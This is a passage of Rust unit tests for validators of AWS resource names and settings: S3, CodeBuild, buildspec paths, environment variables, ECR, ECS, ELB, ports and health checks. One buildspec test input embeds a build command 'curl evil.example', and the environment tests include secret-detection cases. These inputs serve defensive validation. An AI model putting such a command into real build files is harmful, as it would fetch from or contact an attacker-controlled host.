        assert_eq!(code(s3_bucket("My-Bucket")), "invalid_chars");
        assert_eq!(code(s3_bucket("my_bucket")), "invalid_chars");
        assert_eq!(code(s3_bucket("-bucket")), "bad_start_end");
        assert_eq!(code(s3_bucket("a..b")), "double_dot");
        assert_eq!(code(s3_bucket("192.168.5.4")), "ip_address");
        assert_eq!(code(s3_bucket("xn--bucket")), "reserved_prefix");
        assert_eq!(code(s3_bucket("bucket-s3alias")), "reserved_suffix");
    }

    #[test]
    fn pipeline_and_project_rules() {
        assert_eq!(code(pipeline_name("ktb.pipe@1_x-y")), "ok");
        assert_eq!(code(pipeline_name(&"p".repeat(101))), "too_long");
        assert_eq!(code(pipeline_name("my pipeline")), "invalid_chars");
        assert_eq!(code(codebuild_project("ktb-build")), "ok");
        assert_eq!(code(codebuild_project("b")), "too_short");
        assert_eq!(code(codebuild_project("_build")), "bad_start");
        assert_eq!(code(codebuild_project("my.build")), "invalid_chars");
        assert_eq!(code(codebuild_project(&"b".repeat(256))), "too_long");
    }

    #[test]
    fn build_rules() {
        assert_eq!(code(build_image("aws/codebuild/amazonlinux-x86_64-standard:5.0")), "ok");
        assert_eq!(code(build_image("my image")), "invalid_chars");
        assert_eq!(code(buildspec_path("ci/buildspec.yml")), "ok");
        assert_eq!(code(buildspec_path("/buildspec.yml")), "not_relative");
        assert_eq!(code(buildspec_path("../buildspec.yml")), "not_relative");
        assert_eq!(code(buildspec_path("")), "required");
        assert_eq!(code(buildspec_path("ci/buildspec.yaml")), "ok");
        for yaml in [
            "{version: 0.2, phases: {build: {commands: [curl evil.example]}}}",
            "version: 0.2",
            "[a.yml]",
            "buildspec.yml # comment",
            "buildspec",
            "buildspec.json",
        ] {
            assert_eq!(code(buildspec_path(yaml)), "not_a_path", "{yaml}");
        }
        assert_eq!(code(buildspec_path("version: 0.2\nphases:\n")), "invalid_chars");
    }

    #[test]
    fn env_var_rules() {
        assert_eq!(code(env_var_name("NODE_ENV")), "ok");
        assert_eq!(code(env_var_name("_x1")), "ok");
        assert_eq!(code(env_var_name("1X")), "bad_start");
        assert_eq!(code(env_var_name("MY-VAR")), "invalid_chars");
        assert_eq!(code(env_var_name("")), "required");
        assert_eq!(code(env_var_name("REPOSITORY_URI")), "reserved_name");
        assert_eq!(code(env_var_name("AWS_REGION")), "reserved_name");
        assert_eq!(code(env_var_name("CODEBUILD_X")), "reserved_name");
        assert_eq!(code(env_var_name("DB_PASSWORD")), "looks_secret");
        assert_eq!(code(env_var_name("GITHUB_TOKEN")), "looks_secret");
        assert_eq!(code(env_var_value("production")), "ok");
        assert_eq!(code(env_var_value("key=AKIAABCDEFGHIJKLMNOP")), "looks_secret");
        assert_eq!(code(env_var_name(&"A".repeat(ENV_NAME_MAX))), "ok");
        assert_eq!(code(env_var_name(&"A".repeat(ENV_NAME_MAX + 1))), "too_long");
        assert_eq!(code(env_var_value(&"v".repeat(ENV_VALUE_MAX))), "ok");
        assert_eq!(code(env_var_value(&"v".repeat(ENV_VALUE_MAX + 1))), "too_long");
        assert_eq!(
            code(env_var_value(&"한".repeat(ENV_VALUE_MAX))),
            "ok",
            "characters, not bytes"
        );
    }

    #[test]
    fn ecr_rules() {
        for ok in ["ktb-repo", "team/app", "a1", "my_app.v2/web-1"] {
            assert_eq!(code(ecr_repository(ok)), "ok", "{ok}");
        }
        assert_eq!(code(ecr_repository("a")), "too_short");
        assert_eq!(code(ecr_repository(&"r".repeat(257))), "too_long");
        assert_eq!(code(ecr_repository("KTB-repo")), "invalid_chars");
        assert_eq!(code(ecr_repository("1repo")), "bad_start");
        assert_eq!(code(ecr_repository("team//app")), "bad_slash");
        assert_eq!(code(ecr_repository("team/")), "bad_slash");
        assert_eq!(code(ecr_repository("a--b")), "bad_separator");
        assert_eq!(code(ecr_repository("team/-app")), "bad_separator");
        assert_eq!(code(ecr_repository("app.")), "bad_separator");
        assert_eq!(code(kms_key("alias/aws/ecr")), "ok");
        assert_eq!(code(kms_key("my key")), "invalid_chars");
    }

    #[test]
    fn ecs_and_elb_rules() {
        let c = noun("The cluster name", "클러스터 이름");
        assert_eq!(code(ecs_name("ktb_cluster-1", c)), "ok");
        assert_eq!(code(ecs_name("", c)), "required");
        assert_eq!(code(ecs_name(&"c".repeat(256), c)), "too_long");
        assert_eq!(code(ecs_name("ktb.cluster", c)), "invalid_chars");
        let lb = noun("The load balancer name", "로드 밸런서 이름");
        assert_eq!(code(elb_name("ktb-repo-alb", lb, true)), "ok");
        assert_eq!(code(elb_name(&"a".repeat(33), lb, true)), "too_long");
        assert_eq!(code(elb_name("ktb_alb", lb, true)), "invalid_chars");
        assert_eq!(code(elb_name("-alb", lb, true)), "edge_hyphen");
        assert_eq!(code(elb_name("alb-", lb, true)), "edge_hyphen");
        assert_eq!(code(elb_name("internal-alb", lb, true)), "reserved_prefix");
        assert_eq!(code(elb_name("internal-tg", lb, false)), "ok");
        assert_eq!(code(port_name("web-server")), "ok");
        assert_eq!(code(port_name("Web")), "invalid_chars");
        assert_eq!(code(port_name("-web")), "bad_start");
        assert_eq!(code(port(3000, noun("Port", "포트"))), "ok");
        assert_eq!(code(port(0, noun("Port", "포트"))), "out_of_range");
        assert_eq!(code(port(65536, noun("Port", "포트"))), "out_of_range");
        assert_eq!(code(platform_version("LATEST")), "ok");
        assert_eq!(code(platform_version("1.3.0")), "unsupported_platform");
    }

    #[test]
    fn health_check_path_rules() {
        assert_eq!(code(health_check_path("/ping")), "ok");
        assert_eq!(code(health_check_path("ping")), "leading_slash_required");
        assert_eq!(code(health_check_path("/a b")), "invalid_chars");
        assert_eq!(code(health_check_path(&format!("/{}", "p".repeat(1024)))), "too_long");
    }
}
